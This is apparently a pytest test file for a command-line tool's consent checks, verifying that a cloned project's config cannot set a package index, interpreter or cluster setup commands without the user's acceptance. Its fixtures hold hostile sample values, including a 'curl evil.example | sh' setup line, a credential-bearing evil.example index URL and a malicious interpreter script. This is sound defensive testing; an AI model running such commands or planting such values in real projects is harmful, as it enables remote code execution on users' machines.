"""What a project's file may set: nothing that could do harm, before the user has accepted it."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest
from toy_toolbox import command

from mimctl.consent import Request, accept, not_accepted
from mimctl.errors import ConfigError, Origin
from mimctl.settings import load
from mimctl.settings.keys import KEYS

GUARDED = sorted(name for name, key in KEYS.items() if not key.is_harmless and name != "home")


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    """A cloned repository whose file names an index of its own."""
    folder = tmp_path / "clone"
    folder.mkdir()
    (folder / "mimctl.toml").write_text('index = "https://me:s3cret@evil.example/simple"\n')
    return folder


def test_only_what_names_no_place_counts_without_asking():
    assert {name for name, key in KEYS.items() if key.is_harmless} >= {"color", "installer", "offline"}
    assert {"index", "torch_index", "mirrors", "python", "cache_dir"} <= set(GUARDED)


def refused(tmp_path: Path, name: str) -> ConfigError:
    """Return the refusal of a project's file that sets `name` to a value of its kind."""
    for value in ("'x'", "['x']", "'best'", "true", "1", "{ a = 'https://b.example' }", "{ a = { setup = 'x' } }"):
        (tmp_path / "mimctl.toml").write_text(f"color = 'never'\n{name} = {value}\n")
        with pytest.raises(ConfigError) as caught:
            load(environ={"HOME": str(tmp_path / "home")}, folder=tmp_path)
        if caught.value.code != "settings":
            return caught.value
    raise AssertionError(f"no value that `{name}` takes")


@pytest.mark.parametrize("name", GUARDED)
def test_each_dangerous_setting_of_a_project_is_refused_to_who_would_use_it(tmp_path, name):
    error = refused(tmp_path, name)
    assert (error.code, str(error.origin)) == ("untrusted-settings", f"{tmp_path / 'mimctl.toml'}:2")
    assert load(environ={"HOME": str(tmp_path / "home")}, folder=tmp_path, uses=()).color == "never"


@pytest.mark.parametrize(
    "arguments", [["install", "det"], ["install", "det", "--yes"], ["doctor"], ["download", "det", "x"], ["train"]]
)
def test_without_a_terminal_a_new_index_is_refused(mimctl, clone, arguments):
    if arguments == ["train"]:
        arguments = ["train", "det", "x", "--data", str(clone)]
    said = mimctl(*arguments, cwd=clone)
    assert (said.code, said.out) == (2, "")
    assert said.err.startswith("error[untrusted-settings]: the project's file sets `index`")
    assert f"--> {clone}/mimctl.toml:1" in said.err
    assert "hint: accept them for this folder: `mimctl settings trust`" in said.err
    assert "s3cret" not in said.err


@pytest.mark.parametrize("arguments", [["list"], ["settings", "show"], ["explain", "network"], ["env"], ["--version"]])
def test_what_does_not_use_it_works_all_the_same(mimctl, clone, arguments):
    said = mimctl(*arguments, cwd=clone)
    assert said.code == 0
    assert "s3cret" not in said.out + said.err


def test_an_interpreter_of_the_repository_is_not_started(mimctl, tmp_path):
    evil = tmp_path / "evil"
    evil.write_text(f"#!/bin/sh\ntouch {tmp_path / 'pwned'}\n")
    evil.chmod(0o755)
    (tmp_path / "here" / "mimctl.toml").write_text('python = "../evil"\n')
    for verb in ("list", "env", "doctor"):
        said = mimctl(verb, env={"MIMCTL_PYTHON": ""})
        assert (said.code, said.err[:26]) == (2, "error[untrusted-settings]:")
    assert not (tmp_path / "pwned").exists()


def test_settings_show_tells_what_is_not_accepted_and_trust_accepts_it(mimctl, clone, home):
    assert f"({clone}/mimctl.toml:1, not accepted)" in mimctl("settings", "show", "--origin", cwd=clone).out
    said = mimctl("settings", "trust", cwd=clone)
    assert (said.code, said.out) == (0, f"index  https://***@evil.example/simple  ({clone}/mimctl.toml:1)\n")
    assert "not accepted" not in mimctl("settings", "show", "--origin", cwd=clone).out
    assert "s3cret" not in (home / ".config" / "mimctl" / "accepted.json").read_text()
    said = mimctl("install", "det", "--offline", cwd=clone)
    assert "untrusted-settings" not in said.err
    assert "nothing to do" in mimctl("settings", "trust", cwd=clone).err
    assert mimctl("settings", "trust", "--undo", cwd=clone).code == 0
    assert "error[untrusted-settings]" in mimctl("install", "det", cwd=clone).err


def test_what_a_project_says_of_a_cluster_counts_as_far_as_nothing_is_run_by_it(mimctl, clone):
    project = clone / "mimctl.toml"
    project.write_text('[clusters.alpha]\npartition = "gpu"\ncpus_per_task = 4\naccount = "a"\n')
    assert mimctl("list", cwd=clone).code == 0
    for line in ("setup = 'curl evil.example | sh'", "container = 'evil'", "srun_args = '--prolog=/evil'"):
        project.write_text(f"[clusters.alpha]\npartition = 'gpu'\n{line}\n")
        said = mimctl("train", "det", "x", cwd=clone)
        name = f"clusters.alpha.{line.partition(' ')[0]}"
        assert said.code == 2
        assert said.err.startswith(f"error[untrusted-settings]: the project's file sets `{name}`")
        assert f"--> {project}:3" in said.err
    assert mimctl("settings", "trust", cwd=clone).code == 0
    assert "untrusted-settings" not in mimctl("train", "det", "x", cwd=clone).err


def test_another_value_and_another_folder_are_asked_for_anew(tmp_path):
    origin = Origin(file=str(tmp_path / "a" / "mimctl.toml"), line=1)
    first = Request(name="index", value=("https://a.example",), origin=origin)
    accept([first], tmp_path)
    other_value = Request(name="index", value=("https://b.example",), origin=origin)
    elsewhere = Request(name="index", value=first.value, origin=Origin(file=str(tmp_path / "b" / "mimctl.toml")))
    assert not_accepted([first, other_value, elsewhere], tmp_path) == (other_value, elsewhere)


def test_a_flag_or_variable_of_the_users_own_needs_no_asking(mimctl, clone):
    said = mimctl("install", "det", "--index", str(clone), cwd=clone)
    assert "untrusted-settings" not in said.err
    said = mimctl("install", "det", cwd=clone, env={"MIMCTL_INDEX_URL": str(clone)})
    assert "untrusted-settings" not in said.err


def on_a_terminal(arguments: list[str], answer: str, environment: dict[str, str], cwd: Path) -> tuple[int, str]:
    """Run mimctl on a terminal that answers what is asked first."""
    leader, follower = pty.openpty()
    with subprocess.Popen(
        command(*arguments), stdin=follower, stdout=follower, stderr=follower, env=environment, cwd=cwd
    ) as run:
        os.close(follower)
        said = b""
        answered = False
        while True:
            try:
                more = os.read(leader, 4096)
            except OSError:
                break
            if not more:
                break
            said += more
            if not answered and b"[y/N]" in said:
                os.write(leader, f"{answer}\n".encode())
                answered = True
        code = run.wait(240)
    os.close(leader)
    return code, said.decode()


def test_a_terminal_is_asked_once_for_a_value(environment, clone):
    arguments = ["install", "det", "--offline"]
    code, said = on_a_terminal(arguments, "n", environment, clone)
    assert code == 2
    assert f"{clone}/mimctl.toml:1 sets `index`: https://***@evil.example/simple" in said
    assert "error[untrusted-settings]" in said
    code, said = on_a_terminal(arguments, "y", environment, clone)
    assert "error[untrusted-settings]" not in said
    code, said = on_a_terminal(arguments, "n", environment, clone)
    assert "[y/N]" not in said


def test_a_program_that_uses_the_functions_is_refused_too(environment, clone):
    script = "import mimctl\ntry:\n    mimctl.list_package()\nexcept Exception as err:\n    print(err.code)\n"
    told = subprocess.run(
        [sys.executable, "-c", script], cwd=clone, env=environment, capture_output=True, text=True, check=True
    )
    assert told.stdout == "untrusted-settings\n"


def test_a_file_of_the_user_that_gets_a_secret_is_theirs_alone(mimctl, home):
    mimctl("settings", "set", "offline", "true")
    path = home / ".config" / "mimctl" / "config.toml"
    path.chmod(0o644)
    said = mimctl("settings", "set", "index", "https://me:s3cret@private.example/x", "https://b.example")
    assert path.stat().st_mode & 0o777 == 0o600
    assert "s3cret" not in said.out + said.err
    mimctl("settings", "unset", "index")
    assert path.stat().st_mode & 0o777 == 0o600
    shown = json.loads(mimctl("settings", "show", "--json").out)["settings"]
    assert shown["offline"]["value"] is True
